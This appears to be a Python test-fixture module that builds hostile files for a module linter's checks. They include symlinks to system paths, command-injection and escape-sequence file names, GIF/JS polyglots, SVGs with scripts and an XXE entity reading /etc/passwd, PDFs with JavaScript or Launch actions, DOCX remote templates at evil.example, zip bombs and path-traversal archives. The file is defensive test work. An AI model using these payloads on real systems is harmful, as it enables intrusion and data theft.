"""Files that a checkout cannot or should not hold: links, devices, names, sizes, wrong types, archives. Each beside a good module."""

# ruff: noqa: E501 - a table of cases, one a line

from __future__ import annotations

import io
import os
import re
import socket
import struct
import unicodedata
import warnings
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path

PNG = b"\x89PNG\r\n\x1a\n" + struct.pack(">I4sIIBBBBBI", 13, b"IHDR", 1, 1, 8, 2, 0, 0, 0, 0)
SVG = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 9 9">\n{}\n</svg>\n'
ODT = {"mimetype": "application/vnd.oasis.opendocument.text"}
TYPES = '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">{}</Types>'
CONTENT = '<o:c xmlns:o="urn:o" xmlns:text="urn:text" xmlns:draw="urn:draw" xmlns:script="urn:s" xmlns:xlink="urn:x">{}</o:c>'

Make = Callable[[Path], object]
CASES: list[tuple[str, Make, str]] = []
"""Name; what makes it, given the folder of the module ``bad``; what is found: ``code path`` or ``code path:line:column``, one a line."""


def case(name: str, make: Make, found: str = "") -> None:
    CASES.append((name, make, found))


def put(path: str, data: bytes | str) -> Make:
    """Writes a file."""

    def make(folder: Path) -> None:
        (folder / path).parent.mkdir(parents=True, exist_ok=True)
        (folder / path).write_bytes(data.encode() if isinstance(data, str) else data)

    return make


def link(path: str, target: str) -> Make:
    def make(folder: Path) -> None:
        (folder / path).parent.mkdir(parents=True, exist_ok=True)
        (folder / path).symlink_to(target)

    return make


def sparse(path: str, size: int) -> Make:
    def make(folder: Path) -> None:
        put(path, b"")(folder)
        os.truncate(folder / path, size)

    return make


def all_of(*makes: Make) -> Make:
    return lambda folder: [make(folder) for make in makes]


def pipe(path: str) -> Make:
    return all_of(put(path, b""), lambda folder: ((folder / path).unlink(), os.mkfifo(folder / path)))


def many(path: str, count: int) -> Make:
    """One file under many names."""

    def make(folder: Path) -> None:
        put(f"{path}/a.txt", "x")(folder)
        for i in range(count):
            (folder / path / f"a{i}.txt").hardlink_to(folder / path / "a.txt")

    return make


def listen(folder: Path) -> None:
    (folder / "media").mkdir()
    with socket.socket(socket.AF_UNIX) as server:
        here = Path.cwd()
        os.chdir(folder / "media")  # the whole path can be too long for an address
        try:
            server.bind("a.png")
        finally:
            os.chdir(here)


# --- not a regular file

case("link to a file", link("media/a.png", "/etc/hostname"), "F001 media/a.png")
case("link to a folder", link("media/ssl", "/etc/ssl"), "F001 media/ssl")
case("link to the root", link("en/lessons/all", "/"), "F001 en/lessons/all")
case("link that is broken", link("media/a.png", "nowhere"), "F001 media/a.png")
case("link to itself", link("media/a.png", "a.png"), "F001 media/a.png")
case("links in a circle", all_of(link("media/a.png", "b.png"), link("media/b.png", "a.png")), "F001 media/a.png\nF001 media/b.png")
case("folder links in a circle", all_of(link("media/en", "../media"), link("en/lessons/x", "..")), "F001 en/lessons/x\nF001 media/en")
case("link to /dev/zero", link("en/glossary.md", "/dev/zero"), "F001 en/glossary.md")
case(
    "link to the facts of another module",
    all_of(lambda f: (f / "module.yml").unlink(), link("module.yml", "../safe-start/module.yml")),
    "F001 module.yml",
)
case("link that is hidden", link("media/.a.png", "/etc/hostname"), "F001 media/.a.png")
case("language that is a link", all_of(link("el", "../safe-start/el")), "F001 el")
case("pipe as a text", pipe("en/glossary.md"), "F001 en/glossary.md")
case("pipe as a picture", pipe("media/a.png"), "F001 media/a.png")
case("pipe as the facts", all_of(lambda f: (f / "module.yml").unlink(), pipe("module.yml")), "F001 module.yml")
case("socket", listen, "F001 media/a.png")
case("executable text", lambda f: (f / "en/index.md").chmod(0o755))
case("submodule", all_of(put("media/.git", "gitdir: /etc"), put(".gitmodules", "[submodule]"), put(".htaccess", "Deny from all")))
case(
    "facts that are a folder",
    all_of(lambda f: (f / "module.yml").unlink(), put("module.yml/x.md", "x")),
    "M022 module.yml\nM026 module.yml",
)
case("language that is a file", put("it", "x"), "F009 it")

# --- names

LONG = "a" * 97
for name in (
    "CON.png",
    "Aux.svg",
    "a b.png",
    "b .png",
    "c:d.png",
    "A.png",
    "-rf.png",
    "ä.png",
    "%2e%2e.png",
    "a\\b.png",
    "$(id).png",
    "🔧.png",
):
    case(f"name {name}", put(f"media/{name}", PNG), f"F002 media/{name}")
for name in ("nul.png", "com1.png", "lpt9.tar.png", f"{LONG}.png"):
    case(f"name {name[:20]}", put(f"media/{name}", PNG), f"F002 media/{name}")
case("name that ends with a point", put("media/a.", PNG), "F002 media/a.")
case("name that ends with a blank", put("media/b ", PNG), "F002 media/b ")
case("name that is a tag", put("en/lessons/<img src=x onerror=alert(1)>.md", "x"), "F002 en/lessons/<img src=x onerror=alert(1)>.md")
case("name with a line break", put("media/a\n::error::x.png", PNG), "F002 media/a\\u000a::error::x.png")
case("name with an escape sequence", put("media/a\x1b[31m.png", PNG), "F002 media/a\\u001b[31m.png")
case("name with a direction override", put("media/a\u202egnp.exe", PNG), "F002 media/a\\u202egnp.exe")
case("name with a zero width space", put("media/a\u200b.png", PNG), "F002 media/a\\u200b.png")
case("name that is not UTF-8", lambda f: put("media/a.png", PNG)(f) or (f / "media/a.png").rename(f / "media" / os.fsdecode(b"\xff\xfe.png")), "F002 media/\\xff\\xfe.png")  # fmt: skip
case("name in two forms", all_of(put("media/é.png", PNG), put(f"media/{unicodedata.normalize('NFD', 'é')}.png", PNG)), f"F002 media/é.png\nF002 media/{unicodedata.normalize('NFD', 'é')}.png\nF003 media/é.png")  # fmt: skip
case("names that differ in case", all_of(put("media/a.png", PNG), put("media/A.png", PNG)), "F002 media/A.png\nF003 media/a.png")
case("folder with a bad name", put("Bad Dir\n/x.md", "x"), "F002 Bad Dir\\u000a")
case("language that is a device", put("aux/index.md", "---\ntitle: x\n---\n"), "F002 aux")
case("language that is none", put("xx/index.md", "---\ntitle: x\n---\n"), "M026 xx")
case("folder in a folder", put("media/en/deep/er/a.png", PNG), "F009 media/en/deep/er")
case("media of no language", put("media/deep/a.png", PNG), "F009 media/deep/a.png")
case("lesson beside a folder of its name", put("en/lessons/one/index.md", "x"), "F009 en/lessons/one/index.md")
case("lesson that is not listed", put("en/lessons/two.md", "---\ntitle: x\n---\n"), "M010 en/lessons/two.md")

# --- files that would take another's place on the site

for name in (
    "CNAME",
    "_headers",
    "_redirects",
    "robots.txt",
    "sw.js",
    "search_index.json",
    "sitemap.xml",
    "404.html",
    "Makefile",
    "mkdocs.yml",
):
    case(f"own {name}", put(name, "x"), f"F009 {name}")
for name in (
    "bundle.8fd75fb4.min.js",
    "sw.js",
    "404.html",
    "sitemap.xml",
    "a.css",
    "a.wasm",
    "a.xhtml",
    "a.mjs",
    "a.htaccess",
    "a.php",
    "a.jar",
):
    case(f"own {name} in media", put(f"media/{name}", "x"), f"F006 media/{name}")
case("own CNAME in media", put("media/cname", "x"), "F006 media/cname")
case("own robots.txt in media", put("media/robots.txt", "Disallow: /"))  # it lies in the module's media, where nobody asks for it
case("own page in the source", put("en/quiz.html", "x"), "F009 en/quiz.html")

# --- encoding and size

FRONT = b"---\ntitle: A lesson\n---\n"
ONE = "en/lessons/one.md"
case("Latin-1", put(ONE, FRONT + b"W\xf6rter"), f"F004 {ONE}:4:2")
case("UTF-16", put(ONE, "---\ntitle: A lesson\n---\nWörter".encode("utf-16")), f"F004 {ONE}")
case("UTF-16 facts", lambda f: put("module.yml", (f / "module.yml").read_text().encode("utf-16-be"))(f), "F004 module.yml:1:1")
case("byte order mark", put(ONE, b"\xef\xbb\xbf" + FRONT), f"F004 {ONE}")
case("NUL", put(ONE, FRONT + b"A\0B"), f"F004 {ONE}:4:2")
case("overlong", put(ONE, FRONT + b"\xc0\xbcscript\xc0\xbe"), f"F004 {ONE}:4:1")
case("surrogate", put(ONE, FRONT + b"\xed\xa0\x80"), f"F004 {ONE}:4:1")
case("old line ends", put(ONE, FRONT + b"a\rb"), f"F004 {ONE}:4:2")
case("terminal sequence", put(ONE, FRONT + b"a\x1b]0;x\x07"), f"F004 {ONE}:4:2")
case("sparse gigabyte", sparse("media/a.mp4", 2**30), "F005 media/a.mp4")
case("sparse gigabyte of text", sparse(ONE, 2**30), f"F005 {ONE}")
case("sparse gigabyte of facts", sparse("module.yml", 2**30), "F005 module.yml")
case("facts of 70 kB", lambda f: put("module.yml", (f / "module.yml").read_text() + "#" * 70_000)(f), "F005 module.yml")
case("module of 114 MB", all_of(*(sparse(f"media/{i}.mp4", 19 * 2**20) for i in range(6))), "F005 module.yml")
case("5,001 files", many("media", 5001), "F005 module.yml")

# --- type and content

case("script with the head of a GIF", put("media/gif.js", b"GIF89a/*" + b"\0" * 9 + b"*/=1;alert(1)"), "F006 media/gif.js")
case("HTML as PNG", put("media/a.png", "<html><script>alert(1)</script>"), "F006 media/a.png")
case("PNG as JPEG", put("media/a.jpg", PNG), "F006 media/a.jpg")
case("SVG as PNG", put("media/a.png", SVG.format("")), "F006 media/a.png")
case("ZIP as PDF", put("media/a.pdf", b"PK\x03\x04"), "F006 media/a.pdf")
case("program as a video", put("media/a.mp4", b"MZ\x90\0"), "F006 media/a.mp4")
case("captions that are a page", put("media/a.en.vtt", "<html>"), "F006 media/a.en.vtt")
case("two endings", put("media/a.png.html", PNG), "F006 media/a.png.html")
case("page as plain text", put("media/a.txt", "<script>alert(1)</script>"))  # served and opened as text
case("GIF that is a script too", put("media/a.gif", b"GIF89a/*\1\1*/=1;alert(1)//"))  # published as image/gif alone
case("PNG that is a ZIP too", put("media/a.png", PNG + b"PK\x03\x04"))  # the same
case("picture without a size", put("media/a.png", PNG[:12]), "F006 media/a.png")
case(
    "picture of 3.6 gigapixels",
    put("media/a.png", PNG.replace(struct.pack(">II", 1, 1), struct.pack(">II", 60_000, 60_000))),
    "F005 media/a.png",
)
case("captions with a style", put("media/a.en.vtt", "WEBVTT\n\nSTYLE\n::cue { background: url(https://evil.example/x) }\n"), "F007 media/a.en.vtt:3:1")  # fmt: skip
case(
    "captions with tags", put("media/a.en.vtt", "WEBVTT\n\n00:00.000 --> 00:01.000\n<script>alert(1)</script>\n")
)  # players know no such tag
case("table with a formula", put("media/a.csv", 'name,"n"\nx,"=HYPERLINK(""https://evil.example"")"\n'), "F007 media/a.csv:2:4")
case("table with numbers", put("media/a.csv", "a;b\n-1;+2.5\n-;- \n"))
case("transcript of nothing", put("media/notes.md", "x"), "F009 media/notes.md")
case("HTML in a transcript", put("media/a.en.md", "Words <script>alert(1)</script>"), "S001 media/a.en.md:1:7")

for what, inner in {
    "script": "<script>alert(1)</script>",
    "script in CDATA": "<script><![CDATA[alert(1)]]></script>",
    "handler": '<g onload="alert(1)"/>',
    "foreignObject": "<foreignObject/>",
    "style": "<style>@import url(https://evil.example)</style>",
    "style attribute": '<g style="fill:url(https://evil.example)"/>',
    "link": '<a xlink:href="javascript:alert(1)"><text>x</text></a>',
    "use of a foreign file": '<use href="https://evil.example/a.svg#b"/>',
    "use of data": '<use href="data:image/svg+xml;base64,AAAA#b"/>',
    "image": '<image href="https://evil.example/a.png"/>',
    "animation of href": '<animate attributeName="href" values="javascript:alert(1)"/>',
    "set of a handler": '<set attributeName="onmouseover" to="alert(1)"/>',
    "fill from elsewhere": '<rect fill="url(https://evil.example/a.svg#b)"/>',
    "fill with escapes": '<rect fill="u\\72l(https://evil.example/a.svg#b)"/>',
    "mask with image-set": "<rect mask=\"image-set('https://evil.example/a.png' 1x)\"/>",
    "cursor with src": '<rect cursor="src(&quot;https://evil.example&quot;)"/>',
    "font from elsewhere": "<font-face/>",
    "handler element": '<handler type="text/javascript">alert(1)</handler>',
    "XHTML": '<h:script xmlns:h="http://www.w3.org/1999/xhtml">alert(1)</h:script>',
    "base": '<g xml:base="https://evil.example/"/>',
    "instruction": '<?xml-stylesheet href="https://evil.example/x.css"?>',
    "SVG inside a namespace trick": '<x:script xmlns:x="http://www.w3.org/2000/svg">alert(1)</x:script>',
    "patterns inside patterns": "".join(
        f'<pattern id="p{i}">{f"""<rect fill="url(#p{i + 1})"/>""" * 10}</pattern>' for i in range(9)
    ).replace("url(#p9)", "red"),
    "pattern inside itself": '<pattern id="p"><rect fill="url(#p)"/></pattern>',
    "mask inside itself": '<mask id="m"><g mask="url(#n)"/></mask><mask id="n"><g mask="url(#m)"/></mask>',
}.items():
    case(f"SVG with {what}", put("media/a.svg", SVG.format(inner)), "S012 media/a.svg" if what.endswith("patterns") or "itself" in what else "S012 media/a.svg:2:1")  # fmt: skip
case(
    "SVG with entities",
    put("media/a.svg", '<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>\n' + SVG.format("&x;")),
    "S012 media/a.svg:1:15",
)
case("SVG that is not well-formed", put("media/a.svg", SVG.format("<g>")), "S012 media/a.svg:3:3")
case("SVG in UTF-7", put("media/a.svg", '<?xml version="1.0" encoding="UTF-7"?>' + SVG.format("")), "S012 media/a.svg")
case("SVG that is HTML", put("media/a.svg", "<html><script>alert(1)</script></html>"), "S012 media/a.svg")
case("SVG of 3 MB", put("media/a.svg", SVG.format(" " * 3_000_000)), "F005 media/a.svg")
case("SVG with 300 levels", put("media/a.svg", SVG.format("<g>" * 300 + "</g>" * 300)), "S012 media/a.svg:2:598")
case("SVG that is good", put("media/a.svg", SVG.format('<g id="a"><path d="M0 0"/></g><use xlink:href="#a"/><rect fill="url(#g)" transform="rotate(4)"/>')))  # fmt: skip

# --- PDF


def pdf(inside: bytes) -> bytes:
    return b"%PDF-1.7\n" + inside + b"\n%%EOF\n"


def packed(inside: bytes, words: bytes = b"/Type /ObjStm /Filter /FlateDecode") -> bytes:
    return b"5 0 obj << " + words + b" >>\nstream\n" + inside + b"\nendstream endobj\n"


for what, inside in {
    "JavaScript": b"<< /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>",
    "JavaScript in codes": b"<< /S /J#61vaScr#69pt >>",
    "JavaScript that is packed": packed(zlib.compress(b"<< /S /JavaScript >>")),
    "JavaScript after padding": packed(zlib.compress(b" " * 60_000_000)) + packed(zlib.compress(b"<< /S /JavaScript >>")),
    "objects in another packing": packed(b"3c3c>", b"/Type /ObjStm /Filter /ASCIIHexDecode"),
    "Launch": b"<< /S /Launch /F (cmd.exe) >>",
    "an attachment": b"<< /Type /EmbeddedFile >>",
    "a form that is sent": b"<< /S /SubmitForm /F (https://evil.example) >>",
    "XFA": b"<< /XFA [] >>",
    "rich media": b"<< /Subtype /RichMedia >>",
    "encryption": b"trailer << /Encrypt 5 0 R >>",
}.items():
    case(f"PDF with {what}", put("media/a.pdf", pdf(inside)), "F007 media/a.pdf")
case("PDF that is good", put("media/a.pdf", pdf(b"<< /OpenAction [3 0 R /Fit] >>" + packed(zlib.compress(b"<< /Type /Page >>")))))

# --- office files


def archive(*parts: dict[str, str | bytes], twice: str = "") -> bytes:
    out = io.BytesIO()
    with warnings.catch_warnings(), zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zipped:
        warnings.simplefilter("ignore")
        for name, words in [each for part in parts for each in part.items()] + ([(twice, "x")] if twice else []):
            zipped.writestr(name, words)
    return out.getvalue()


def docx(**parts: str | bytes) -> bytes:
    return archive({"[Content_Types].xml": TYPES.format("")}, parts)


def odt(content: str, mime: dict[str, str] = ODT, **parts: str | bytes) -> bytes:
    return archive(mime, {"content.xml": CONTENT.format(content)}, parts)


def relation(attributes: str) -> str:
    return f'<Relationships xmlns="urn:r"><Relationship Id="r1" {attributes}/></Relationships>'


TEMPLATE = "Type='urn:x/attachedTemplate' Target='https://evil.example/x.dotm' TargetMode='External'"
RELS = "word/_rels/settings.xml.rels"
for what, data in {
    "a macro": docx(**{"word/vbaProject.bin": b"x"}),
    "a macro by another name": archive(
        {"[Content_Types].xml": TYPES.format('<Override ContentType="application/vnd.ms-office.vbaProject"/>')}
    ),
    "a template from elsewhere": docx(**{RELS: relation(TEMPLATE)}),
    "a template in UTF-16": docx(**{RELS: relation(TEMPLATE).encode("utf-16")}),
    "a template in entities": docx(**{RELS: relation(TEMPLATE.replace("External", "Ext&#101;rnal"))}),
    "a picture called hyperlink": docx(**{RELS: relation(TEMPLATE.replace("x.dotm", "hyperlink"))}),
    "a link to a script": docx(**{RELS: relation("Type='urn:x/hyperlink' Target='javascript:alert(1)' TargetMode='External'")}),
    "an object": docx(**{"word/embeddings/oleObject1.bin": b"x"}),
    "a program": docx(**{"word/media/x.exe": b"MZ"}),
    "an archive": docx(**{"word/media/x.zip": b"PK"}),
    "data from elsewhere": docx(**{"xl/externalLinks/externalLink1.xml": "<x/>"}),
}.items():
    case(f"DOCX with {what}", put("media/a.docx", data), "F007 media/a.docx")
for what, data in {
    "a macro": odt("", **{"Basic/Standard/Module1.xml": "<x/>"}),
    "a listener": odt('<script:event-listener xlink:href="vnd.sun.star.script:x"/>'),
    "a picture from elsewhere": odt('<draw:image xlink:href="https://evil.example/p.png"/>'),
    "a section from elsewhere": odt('<text:section-source xlink:href="../../x.odt"/>'),
    "a link to a macro": odt('<text:a xlink:href="vnd.sun.star.script:x">x</text:a>'),
    "live data": odt("<text:dde-source/>"),
}.items():
    case(f"ODT with {what}", put("media/a.odt", data), "F007 media/a.odt")
for what, data in {
    "a part outside": odt("", **{"../../evil.xml": "x"}),
    "an absolute part": odt("", **{"/etc/x": "x"}),
    "a part on another drive": odt("", **{"C:/x": "x"}),
    "a part twice": archive(ODT, twice="mimetype"),
    "1,001 parts": odt("", **{f"a{i}": "" for i in range(1001)}),
    "a bomb": odt("", **{"a.xml": b"\0" * 30_000_000}),
    "entities": archive(ODT, {"content.xml": '<!DOCTYPE x [<!ENTITY a "b">]><x>&a;</x>'}),
    "content that is no XML": archive(ODT, {"content.xml": "hello"}),
    "broken list of parts": odt("")[:-30],
    "another name in the head of a part": odt("").replace(b"content.xml", b"c0ntent.xml", 1),
}.items():
    case(f"ODT with {what}", put("media/a.odt", data), "F008 media/a.odt")
case("DOCM", put("media/a.docm", docx()), "F006 media/a.docm")
case("DOCX that is another archive", put("media/a.docx", archive({"x": "x"})), "F006 media/a.docx")
case("ODT that is a table", put("media/a.odt", odt("", {"mimetype": "application/vnd.oasis.opendocument.spreadsheet"})), "F006 media/a.odt")
case("DOCX that is good", put("media/a.docx", docx(**{RELS: relation("Type='urn:x/hyperlink' Target='https://school.example' TargetMode='External'")})))  # fmt: skip
case("ODT that is good", put("media/a.odt", odt('<text:a xlink:href="https://school.example">x</text:a><draw:image xlink:href="Pictures/1.png"/>')))  # fmt: skip


def expected(found: str) -> set[tuple[str, str]]:
    """(code, place) of the lines of a case."""
    pairs = (line.split(" ", 1) for line in found.split("\n") if line)
    return {(code, f"modules/bad/{place}" + ("" if re.search(r":[0-9]+:[0-9]+$", place) else ":1:1")) for code, place in pairs}
